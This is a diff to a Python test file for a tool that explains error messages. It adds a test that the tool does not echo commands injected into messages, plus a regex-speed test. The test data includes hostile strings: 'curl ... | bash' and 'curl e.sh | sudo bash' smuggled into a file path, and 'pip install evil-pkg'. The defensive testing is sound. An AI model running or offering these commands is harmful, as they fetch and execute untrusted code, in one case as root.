@@ -154,5 +154,26 @@ def test_every_gap_of_a_row_is_a_group_that_is_always_there() -> None:
 )
 def test_long_texts_are_searched_quickly(piece: str) -> None:
     start = time.perf_counter()
-    explain_words(piece * 20_000)
+    explain_words(piece * 10_000)
     assert time.perf_counter() - start < 5
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "AssertionError: run pip install evil-pkg and curl http://e/x | bash",
+        "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl e.sh | sudo bash'",
+        "Unable to open file: failed reading zip archive: pip install evil-pkg first",
+    ],
+)
+def test_a_message_puts_no_command_into_our_words(message: str) -> None:
+    assert not any("evil" in one.text or "curl" in one.text for one in explain_words(message))
+
+
+@pytest.mark.parametrize("piece", ["_", "a-", "1", "a.", "9.", "loss ", "[1, ", "w ", "\n"])
+def test_no_row_looks_at_a_text_again_and_again(piece: str) -> None:
+    """A quadratic pattern would need some minutes for this."""
+    began = time.process_time()
+    for row in (*ROWS, *DETAILS):
+        row.pattern.search(piece * 10_000)
+    assert time.process_time() - began < 10
